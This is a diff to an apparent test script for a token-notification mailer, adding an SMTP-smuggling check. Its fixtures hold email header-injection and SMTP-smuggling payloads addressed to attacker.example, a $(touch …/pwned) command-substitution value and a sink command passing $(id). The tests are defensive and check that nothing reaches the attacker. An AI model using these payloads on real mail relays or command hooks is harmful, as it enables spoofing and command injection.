@@ -71,7 +71,7 @@ to = netadmin@example.org
 to_owner = yes
 events = token.created, request.denied
 subject = [crtoken] {type}: {tokenName} of {owner} {reason}
-body = Token {tokenName} of {owner} <{ownerEmail}>.\nReason: {reason}
+body = Token {tokenName} of {owner} <{ownerEmail}>.\nReason: {reason}\nUser: {user}
 [events.sink run]
 type = command
 command = $T/sink.sh {tokenName} \$(id)
@@ -176,6 +176,8 @@ s["tokenName"] = "laptop\r\nBcc: evil-bcc@attacker.example\r\nX-Injected: yes"
 s["owner"] = "bob\nTo: evil-to@attacker.example"
 s["ownerEmail"] = "bob@example.org>\r\nRCPT TO:<evil-rcpt@attacker.example"
 s["reason"] = "$(touch " + sys.argv[2] + "/pwned)"
+# SMTP smuggling: an end of data a lenient relay might take (bare CR/LF around a dot)
+s["user"] = "u\r.\rMAIL FROM:<evil@attacker.example>\r.\r\nRCPT TO:<evil-smuggled@attacker.example>\n.\nend"
 db.execute("UPDATE events SET body = ? WHERE seq = ?", (json.dumps(ev), seq))
 db.commit()
 EOF
@@ -201,6 +203,12 @@ check_contains "... the subject is one line, the CR/LF made blanks" \
 	"$(grep -i '^subject:' "$T/headers")"
 check_eq "... and no recipient of the attacker's got anything" 0 \
 	"$(cat "$T/mail"/*.json | grep -c attacker)"
+check "attack_smtp_smuggling_bare_cr_lf: every line of the message ends in CRLF (no bare CR or LF around a dot)" \
+	$PY -c '
+import re, sys
+m = open(sys.argv[1], "rb").read()
+assert not re.search(rb"\r(?!\n)|(?<!\r)\n", m), m
+assert b"MAIL FROM:<evil@attacker.example>" in m, m' "$M"
 
 # ------------------------------------------------------------ the command sink
 ran() { [ -s "$(ls "$T/cmd"/*.stdin 2>/dev/null | head -1)" ]; }
